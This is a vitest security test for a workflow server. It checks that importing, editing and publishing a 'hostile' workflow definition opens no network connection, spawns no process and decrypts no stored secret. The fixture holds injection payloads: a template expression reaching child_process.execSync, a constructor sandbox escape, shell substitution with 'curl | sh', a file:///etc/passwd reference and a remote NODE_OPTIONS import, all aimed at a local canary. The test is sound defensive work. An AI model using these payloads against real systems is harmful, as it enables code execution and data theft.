import { spawn } from 'node:child_process';
import { channel } from 'node:diagnostics_channel';
import { once } from 'node:events';
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { openKeyring } from '#db/seal.js';
import { parseAllow } from '#engine/egress/allow.js';
import { openEgress } from '#engine/egress/egress.js';
import { readDefinition } from '#engine/graph/document/shape.js';
import { buildTestApp, type TestApp } from '#tests/support/app.js';
import { startCanary, type Canary } from '#tests/support/canary.js';
import { joinDraft, listenForDrafts } from '#tests/support/collaboration.js';
import type { Session } from '#server/api/auth/schemas.js';

/** Whoever imports, opens, compares or publishes a department runs nothing of it: no process, no connection, whatever it says. */
let server: TestApp;
let owner: Session;
let address: string;
let canary: Canary;
let processes = 0;
let connection: string;
/** The key of that connection as it is stored, and everything that was opened of what is sealed. */
let sealed: string;
const opened: string[] = [];
const real = openKeyring(randomBytes(32));
const keyring: typeof real = {
  ...real,
  open(query, organization, bytes) {
    opened.push(Buffer.from(bytes).toString('hex'));
    return real.open(query, organization, bytes);
  },
};
const count = (): void => void (processes += 1);

beforeAll(async () => {
  channel('child_process').subscribe(count);
  canary = await startCanary();
  server = await buildTestApp({ keyring, egress: openEgress({ allow: parseAllow(`127.0.0.1:${canary.port}`) }) });
  owner = await server.register();
  address = await listenForDrafts(server.app);
  const bearer = { kind: 'bearer', name: 'Caixa', hosts: [`127.0.0.1:${canary.port}`], secret: 'sk-canary-5a1f' };
  connection = (await server.call('POST', '/integrations/connections', { as: owner, body: bearer })).body.id;
  const stored = await server.db.engine.query('select sealed_secret from connections where id = $1', [connection]);
  sealed = stored.rows[0].sealed_secret.toString('hex');
});
afterAll(async () => {
  channel('child_process').unsubscribe(count);
  await server.close();
  await canary.close();
});

const url = () => `http://127.0.0.1:${canary.port}/`;
const node = (id: string, type: string, config: object, more: object = {}) => ({
  id,
  type,
  version: 1,
  config,
  position: { x: 0, y: 0 },
  ...more,
});

/** Every field that could be taken for an address, a command or code. */
const hostile = () => ({
  format: 1,
  nodes: [
    node('start', 'trigger.manual', {}),
    node('call', 'data.httpRequest', { method: 'GET', url: url(), headers: [{ name: 'x', value: url() }], connection }),
    node('set', 'data.set', {
      values: [
        { name: 'a', value: `{{ fetch("${url()}") }}` },
        { name: 'b', value: '{{ process.mainModule.require("child_process").execSync("id") }}' },
        { name: 'c', value: "{{ ''.constructor.constructor('return process')() }}" },
        { name: 'd', value: `$(curl ${url()}) \`id\` ; curl ${url()} | sh` },
      ],
    }),
    node('write', 'agent.assistant', {
      instructions: `<img src="${url()}"> ![x](${url()}) file:///etc/passwd {{ include("${url()}") }}`,
      tools: [{ command: 'id', url: url() }],
      baseUrl: url(),
    }),
    node('mcp', 'mcp.stdio', {
      command: 'sh',
      args: ['-c', `curl ${url()}`],
      env: { NODE_OPTIONS: `--import ${url()}` },
    }),
  ],
  edges: ['start>call', 'call>set', 'set>write'].map((id) => {
    const [from, to] = id.split('>');
    return { id, from: { node: from, port: 'out' }, to: { node: to, port: 'in' } };
  }),
  settings: { webhook: url(), icon: url(), $ref: url(), import: url() },
});

describe('a hostile definition', () => {
  it('opens no connection, starts no process and reads no key when it is imported, opened, edited, compared and published', async () => {
    const call = (method: 'GET' | 'POST' | 'PUT', path: string, body?: unknown) =>
      server.call(method, path, { as: owner, body });
    const made = await call('POST', '/departments', { name: url(), definition: hostile() });
    expect(made.status).toBe(201);
    const { id } = made.body;
    const draft = await joinDraft(address, id, owner.accessToken);
    expect(readDefinition(draft.doc).definition.nodes).toHaveLength(5);
    const update = Y.encodeStateAsUpdate(draft.doc);
    Y.applyUpdate(new Y.Doc(), update);
    const put = await call('PUT', `/departments/${id}/draft`, { definition: { ...hostile(), settings: {} } });
    expect(put.body.problems.length).toBeGreaterThan(0);
    expect((await call('GET', `/departments/${id}`)).status).toBe(200);
    expect((await call('GET', `/departments/${id}/changes`)).status).toBe(200);
    expect((await call('POST', `/departments/${id}/publish`)).status).toBe(422);
    const good = { ...hostile(), nodes: hostile().nodes.slice(0, 1), edges: [] };
    await call('PUT', `/departments/${id}/draft`, { definition: good });
    expect((await call('POST', `/departments/${id}/publish`)).status).toBeLessThan(500);
    draft.leave();
    expect([canary.connections(), processes, opened.includes(sealed)]).toEqual([0, 0, false]);
  });

  it('would be noticed if it did', async () => {
    await fetch(url());
    const child = spawn(process.execPath, ['--version'], { stdio: 'ignore' });
    await once(child, 'close');
    expect([canary.connections(), processes]).toEqual([1, 1]);
    const body = { url: url() };
    await server.call('POST', `/integrations/connections/${connection}/test`, { as: owner, body });
    expect(opened).toContain(sealed);
  });
});
